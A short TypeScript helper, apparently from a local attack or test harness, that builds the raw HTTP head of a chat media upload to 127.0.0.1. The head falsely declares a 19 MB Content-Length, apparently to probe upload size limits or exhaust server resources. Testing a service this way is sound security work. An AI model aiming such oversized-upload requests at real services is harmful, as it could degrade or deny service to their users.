import type { Target } from './attack'
import { chatService } from './chatToken'

export const megabyte = 1_048_576
const declaredBytes = 19 * megabyte
/** The path for uploads. */
export const uploadPath = (token: string) =>
  `/mcs/v1/Services/${chatService(token)}/Media?Category=media&Filename=a.png`

/** The head of an upload that claims to be large. */
export const headOf = ({ port, chatToken }: Target) =>
  [
    `POST ${uploadPath(chatToken)} HTTP/1.1`,
    `Host: 127.0.0.1:${port}`,
    `X-Twilio-Token: ${chatToken}`,
    'Content-Type: image/png',
    `Content-Length: ${declaredBytes}`,
    '',
    '',
  ].join('\r\n')
